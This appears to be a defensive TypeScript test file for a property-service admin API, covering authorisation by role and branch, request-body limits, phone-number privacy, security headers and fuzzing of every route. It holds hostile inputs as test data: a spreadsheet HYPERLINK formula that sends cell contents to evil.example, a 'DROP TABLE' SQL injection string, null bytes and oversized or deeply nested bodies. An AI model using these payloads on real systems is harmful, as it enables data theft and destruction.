import { phoneLookupKey as phoneKey } from '../../src/domain/phone-vault'
import http from 'node:http'
import type { RunningApp } from '../../src/app'
import { apiEndpoints } from '../../src/admin/api'
import { issueToken, STAFF_ROLES } from '../../src/admin/auth'
import { ChineseWorkdayCalendar } from '../../src/domain/chinese-calendar'
import { startTestApp } from '../support/app'
import { testClock } from '../support/clock'
import { createTestDatabase, type TestDatabase } from '../support/db'
import { caseClock } from '../support/harness'

/**
 * The admin API played by a hostile caller: no token, the wrong token, another branch's head, a letter
 * clerk after customer files, and every route's parameters filled with what breaks parsers. Each
 * finding of the hostile review has a test here that failed before its fix.
 */
const ADMIN = 'security-admin-token-0123456789'
let db: TestDatabase
let app: RunningApp
const tokens: Record<string, string> = {}
const ids: Record<string, number> = {}

beforeAll(async () => {
  db = await createTestDatabase()
  app = await startTestApp(db, { ADMIN_TOKEN: ADMIN })
  const one = async (sql: string, params: unknown[] = []) => (await db.dataSource.query(sql, params))[0]
  // A second branch: 上海分公司 with its own project, building, household, head and ambassador.
  await db.dataSource.query(`INSERT INTO branch (name) VALUES ('上海分公司') ON CONFLICT DO NOTHING`)
  ids.shProject = (
    await one(
      `INSERT INTO project (code, name, city, branch) VALUES ('SH-BUND', '外滩壹号', '上海', '上海分公司') RETURNING id`,
    )
  ).id
  ids.shHead = (
    await one(
      `INSERT INTO ambassador (name, wecom_user_id, project_id, role) VALUES ('孙海', 'sunhai', $1, 'branch_head') RETURNING id`,
      [ids.shProject],
    )
  ).id
  ids.shAmbassador = (
    await one(
      `INSERT INTO ambassador (name, wecom_user_id, project_id, role) VALUES ('钱多', 'qianduo', $1, 'ambassador') RETURNING id`,
      [ids.shProject],
    )
  ).id
  ids.hzHead = (await one(`SELECT id FROM ambassador WHERE wecom_user_id = 'zhoujianguo'`)).id
  ids.lina = (await one(`SELECT id FROM ambassador WHERE wecom_user_id = 'lina'`)).id
  ids.hzProject = (await one(`SELECT id FROM project WHERE code = 'CUIHU'`)).id
  ids.household = (await one(`SELECT id FROM household WHERE code = 'CUIHU-H0001'`)).id
  await one(
    `INSERT INTO service_case (case_no, kind, category, status, project_id, household_id, owner_id, intake_channel,
                               description, ambassador_id, created_at)
     SELECT 'TS20261201-0001', 'complaint', '=HYPERLINK("http://evil.example/?d="&A1,"报表")', 'open', $1,
            o.household_id, o.id, 'console', '外墙渗水', $2, $3
       FROM owner o WHERE o.phone_key = '${phoneKey('13800000001')}'`,
    [ids.hzProject, ids.lina, testClock()],
  )
  tokens.admin = ADMIN
  tokens.hzHead = await issueToken(db.dataSource, {
    name: '周建国',
    role: 'branch_head',
    ambassadorId: ids.hzHead,
  })
  tokens.shHead = await issueToken(db.dataSource, {
    name: '孙海',
    role: 'branch_head',
    ambassadorId: ids.shHead,
  })
  tokens.lina = await issueToken(db.dataSource, { name: '李娜', role: 'ambassador', ambassadorId: ids.lina })
  tokens.group = await issueToken(db.dataSource, { name: '集团客服', role: 'group_centre' })
  tokens.letters = await issueToken(db.dataSource, { name: '工程部', role: 'letter_staff' })
})
afterAll(async () => {
  await app.shutdown()
  await db.drop()
})

async function call(
  who: string | null,
  path: string,
  init: { method?: string; body?: unknown; raw?: string; type?: string } = {},
) {
  const headers: Record<string, string> = {}
  if (who) headers.authorization = `Bearer ${tokens[who] ?? who}`
  let body: string | undefined
  if (init.body !== undefined || init.raw !== undefined) {
    headers['content-type'] = init.type ?? 'application/json'
    body = init.raw ?? JSON.stringify(init.body)
  }
  const response = await fetch(`${app.adminUrl}/api/v1${path}`, {
    method: init.method ?? 'GET',
    headers,
    body,
  })
  const text = await response.text()
  const json = (response.headers.get('content-type') ?? '').includes('json') ? JSON.parse(text) : null
  return { status: response.status, json, text }
}

describe('bodies are read only for callers who may send them', () => {
  it('answers a caller without a token before reading a word of a huge body', async () => {
    const url = new URL(`${app.adminUrl}/api/v1/letters`)
    // Declares 19 MB, sends 1 KB and waits: only a server that answers before reading ends this.
    const status = await new Promise<number>((resolve, reject) => {
      const request = http.request(
        {
          host: url.hostname,
          port: url.port,
          path: url.pathname,
          method: 'POST',
          headers: { 'content-type': 'application/json', 'content-length': String(19 * 1024 * 1024) },
        },
        (response) => {
          response.resume()
          resolve(response.statusCode ?? 0)
          request.destroy()
        },
      )
      request.on('error', (error) => (request.destroyed ? undefined : reject(error)))
      request.write('['.repeat(1024))
      setTimeout(() => reject(new Error('the server waited for the body')), 10_000).unref()
    })
    expect(status).toBe(401)
  })

  it('refuses bodies over the route’s limit, too deep, malformed or of another type — never a 500', async () => {
    const big = { name: 'x'.repeat(100 * 1024), role: 'admin' }
    expect((await call('admin', '/tokens', { method: 'POST', body: big })).status).toBe(413)
    const deep = `${'['.repeat(5000)}${']'.repeat(5000)}`
    expect((await call('admin', '/tokens', { method: 'POST', raw: deep })).json.code).toBe('INVALID_JSON')
    expect((await call('admin', '/tokens', { method: 'POST', raw: '{"name": "a",' })).json.code).toBe(
      'INVALID_JSON',
    )
    expect(
      (await call('admin', '/tokens', { method: 'POST', raw: 'name=a', type: 'text/plain' })).status,
    ).toBe(415)
    const huge = await call('admin', '/imports/customers', {
      method: 'POST',
      raw: 'a'.repeat(25 * 1024 * 1024),
      type: 'text/csv',
    })
    expect(huge.status).toBe(413)
    const badCsv = await call('admin', '/imports/customers', {
      method: 'POST',
      raw: 'project_code,name\n"unterminated,quote\n',
      type: 'text/csv',
    })
    expect(badCsv.status).toBe(400)
    expect(badCsv.json.code).toBe('MALFORMED_IMPORT')
  })

  it('stores text without control characters, keeping line breaks', async () => {
    const note = await call('admin', '/cases/TS20261201-0001/notes', {
      method: 'POST',
      body: { note: '第一行\r\n第二行\u001b[31m红\u0007\b\u202e倒\rend' },
    })
    expect(note.status).toBe(200)
    const [event] = await db.dataSource.query(
      `SELECT data->>'note' AS note FROM case_event WHERE kind = 'staff_note' ORDER BY id DESC LIMIT 1`,
    )
    expect(event.note).toBe('第一行\n第二行[31m红倒\nend')
  })
})

describe('every object an endpoint touches is in the caller’s scope', () => {
  it('keeps a branch head’s letters, assignments and outbox inside the branch', async () => {
    // Drafting for another branch's project, or with buildings of another project.
    const letter = { kind: 'progress', title: '进度告知', body: '主体结构封顶。' }
    expect(
      (await call('hzHead', '/letters', { method: 'POST', body: { ...letter, projectId: ids.shProject } }))
        .status,
    ).toBe(422)
    const [building] = await db.dataSource.query(`SELECT id FROM building WHERE project_id = $1 LIMIT 1`, [
      ids.hzProject,
    ])
    const foreign = await call('shHead', '/letters', {
      method: 'POST',
      body: { ...letter, projectId: ids.shProject, buildingIds: [building.id] },
    })
    expect(foreign.json.code).toBe('AUDIENCE_OUTSIDE_PROJECT')
    // An admin's draft for Hangzhou: the Shanghai head can neither read nor publish it.
    const draft = await call('admin', '/letters', {
      method: 'POST',
      body: { ...letter, projectId: ids.hzProject },
    })
    expect(draft.status).toBe(201)
    for (const path of [`/letters/${draft.json.id}`, `/letters/${draft.json.id}/deliveries`])
      expect((await call('shHead', path)).status).toBe(404)
    expect((await call('shHead', `/letters/${draft.json.id}/publish`, { method: 'POST' })).status).toBe(404)
    const [published] = await db.dataSource.query(`SELECT published_at FROM letter WHERE id = $1`, [
      draft.json.id,
    ])
    expect(published.published_at).toBeNull()
    // Cases go to ambassadors of the branch only.
    const assign = await call('hzHead', '/cases/TS20261201-0001/assign', {
      method: 'POST',
      body: { ambassadorId: ids.shAmbassador },
    })
    expect(assign.status).toBe(422)
    const [stillLina] = await db.dataSource.query(
      `SELECT ambassador_id FROM service_case WHERE case_no = 'TS20261201-0001'`,
    )
    expect(stillLina.ambassador_id).toBe(ids.lina)
    expect((await call('hzHead', '/outbox')).status).toBe(403)
    const denied = await db.dataSource.query(
      `SELECT action FROM audit_log WHERE actor LIKE '%周建国' AND action LIKE '%denied' ORDER BY id`,
    )
    expect(denied.map((row: { action: string }) => row.action)).toEqual([
      'letter.create_denied',
      'case.assign_denied',
      'access.denied',
    ])
  })

  it('keeps customer files from letter staff, and phone searches to roles that see phones', async () => {
    expect((await call('letters', '/households?q=张三')).status).toBe(403)
    expect((await call('letters', `/households/${ids.household}`)).status).toBe(403)
    // The group centre sees masked numbers, so a search by number could unmask one: refused, and kept.
    const byPhone = await call('group', '/households?q=13800000001')
    expect(byPhone.status).toBe(403)
    expect((await call('group', '/households?q=张三')).json.items[0].owners[0].phone).toBe('138****0001')
    // The household's own ambassador finds it by number, and the search is audited masked.
    const found = await call('lina', '/households?q=138 0000 0001')
    expect(found.json.items[0].owners[0].phone).toBe('13800000001')
    const searches = await db.dataSource.query(
      `SELECT action, subject_id FROM audit_log WHERE action LIKE 'customer_file.search%' ORDER BY id`,
    )
    expect(searches).toEqual(
      expect.arrayContaining([
        { action: 'customer_file.search_denied', subject_id: '138****0001' },
        { action: 'customer_file.search', subject_id: '138****0001' },
        { action: 'customer_file.search', subject_id: '张三' },
      ]),
    )
  })

  it('limits searches by phone number in a burst', async () => {
    let last = 0
    for (let i = 0; i < 31; i += 1)
      last = (await call('lina', `/households?q=1390000${String(i).padStart(4, '0')}`)).status
    expect(last).toBe(429)
  })

  it('ends a staff member’s tokens the moment they leave', async () => {
    const token = await issueToken(db.dataSource, {
      name: '钱多',
      role: 'ambassador',
      ambassadorId: ids.shAmbassador,
    })
    expect((await call(token, '/me')).status).toBe(200)
    await db.dataSource.query(`UPDATE ambassador SET active = false WHERE id = $1`, [ids.shAmbassador])
    expect((await call(token, '/me')).status).toBe(401)
  })

  it('exports reports with formulas neutralised', async () => {
    const month = new Date(testClock().getTime() + 8 * 3600_000).toISOString().slice(0, 7)
    const csv = await call('group', `/reports/complaints?month=${month}&format=csv`)
    expect(csv.text).toMatch(/category,"'=HYPERLINK\(/)
    expect(csv.text).not.toMatch(/(^|,)"?=HYPERLINK/m)
  })
})

describe('what every answer says about itself', () => {
  it('sends security headers on answers and errors alike', async () => {
    for (const path of ['/api/v1/me', '/api/v1/nothing-here', '/healthz']) {
      const answer = await fetch(`${app.adminUrl}${path}`)
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
      expect(answer.headers.get('referrer-policy')).toBe('no-referrer')
      expect(answer.headers.get('x-frame-options')).toBe('DENY')
      expect(answer.headers.get('content-security-policy')).toMatch(/frame-ancestors 'none'/)
    }
  })

  it('tells /healthz details to this machine or the metrics token only; behind a proxy, HSTS on HTTPS', async () => {
    const METRICS = 'security-metrics-token-0123456789'
    const proxied = await startTestApp(db, { ADMIN_TOKEN: ADMIN, METRICS_TOKEN: METRICS, TRUST_PROXY: 'on' })
    try {
      const outside = { 'x-forwarded-for': '203.0.113.7', 'x-forwarded-proto': 'https' }
      const fromOutside = await fetch(`${proxied.adminUrl}/healthz`, { headers: outside })
      expect(await fromOutside.json()).toEqual({ status: expect.any(String) })
      expect(fromOutside.headers.get('strict-transport-security')).toMatch(/max-age=\d+/)
      const withToken = await fetch(`${proxied.adminUrl}/healthz`, {
        headers: { ...outside, authorization: `Bearer ${METRICS}` },
      })
      expect(await withToken.json()).toMatchObject({ database: { status: 'up' } })
      const local = await fetch(`${app.adminUrl}/healthz`)
      expect(await local.json()).toMatchObject({ database: { status: 'up' } })
      expect(local.headers.get('strict-transport-security')).toBeNull()
    } finally {
      await proxied.shutdown()
    }
  })
})

describe('hostile parameters on every route of the OpenAPI document', () => {
  const HOSTILE = [
    'abc',
    '0',
    '-1',
    '2147483648',
    '99999999999999999999',
    '1e308',
    '1.5',
    '\u0000',
    'a\u0000b',
    '-271821-04-20',
    '+275760-09-13',
    '9999-99-99',
    'x'.repeat(3000),
    '%',
    '[]',
    "'; DROP TABLE owner; --",
    Buffer.from(JSON.stringify(['2026-01-01', 99999999999])).toString('base64url'),
    Buffer.from('not json').toString('base64url'),
  ]
  const BODIES = [
    '{',
    '[]',
    'null',
    '"text"',
    '{"ambassadorId": 99999999999, "projectId": 2147483648, "status": "closed", "note": "\\u0000"}',
    '{"kind": "progress", "projectId": 1e400, "title": 12, "body": null}',
    '{"name": "\\u0000", "role": "admin", "contractValue": -1}',
    `{"unitIds": [${'1,'.repeat(20_000)}1]}`,
  ]

  it('answers 4xx, never 500, whoever calls', async () => {
    const doc = (await (await fetch(`${app.adminUrl}/api/v1/openapi.json`)).json()) as {
      paths: Record<
        string,
        Record<string, { parameters: { name: string; in: string }[]; requestBody?: unknown }>
      >
    }
    const failures: string[] = []
    const check = async (who: string, method: string, path: string, raw?: string) => {
      const answer = await call(who, path, {
        method: method.toUpperCase(),
        ...(raw === undefined ? {} : { raw }),
      })
      if (answer.status >= 500)
        failures.push(`${who} ${method} ${path} ${raw?.slice(0, 40) ?? ''} → ${answer.status}`)
    }
    let requests = 0
    for (const [template, operations] of Object.entries(doc.paths)) {
      for (const [method, operation] of Object.entries(operations)) {
        const route = template.replace('/api/v1', '')
        const pathParams = operation.parameters.filter((p) => p.in === 'path').map((p) => p.name)
        const queryParams = operation.parameters.filter((p) => p.in === 'query').map((p) => p.name)
        const withPath = (value: string) =>
          pathParams.reduce((path, name) => path.replace(`{${name}}`, encodeURIComponent(value)), route)
        const sane = withPath(pathParams.includes('caseNo') ? 'TS20261201-0001' : '1')
        for (const who of ['admin', 'hzHead', 'lina']) {
          for (const value of HOSTILE) {
            if (pathParams.length) await check(who, method, withPath(value))
            for (const name of queryParams)
              await check(who, method, `${sane}?${name}=${encodeURIComponent(value)}&month=2026-12`)
            requests += pathParams.length + queryParams.length
          }
          if (operation.requestBody || method === 'post')
            for (const raw of BODIES) {
              await check(who, method, sane, raw)
              requests += 1
            }
        }
      }
    }
    expect(requests).toBeGreaterThan(500)
    expect(failures).toEqual([])
  }, 120_000)
})

describe('the role-by-route matrix', () => {
  it('lets exactly the roles of the route table through each route, and refuses the rest with 403', async () => {
    const roleTokens: Record<string, string> = {
      admin: 'admin',
      group_centre: 'group',
      branch_head: 'hzHead',
      ambassador: 'lina',
      letter_staff: 'letters',
    }
    const mismatches: string[] = []
    for (const e of apiEndpoints(caseClock(), () => undefined, new ChineseWorkdayCalendar())) {
      const path = e.path.replace(':id', '1').replace(':caseNo', 'TS20261201-0001')
      for (const role of STAFF_ROLES) {
        // Harmless input: the matrix is about who gets past the door, not what happens inside.
        const answer = await call(roleTokens[role], `${path}?month=2026-12&q=张`, {
          method: e.method.toUpperCase(),
          ...(e.method === 'get' ? {} : { raw: '{}' }),
        })
        const refused = answer.status === 403 && answer.json?.code === 'FORBIDDEN'
        if (refused === e.roles.includes(role))
          mismatches.push(`${role} ${e.method} ${e.path}: ${answer.status} ${answer.json?.code ?? ''}`)
      }
    }
    expect(mismatches).toEqual([])
  })
})
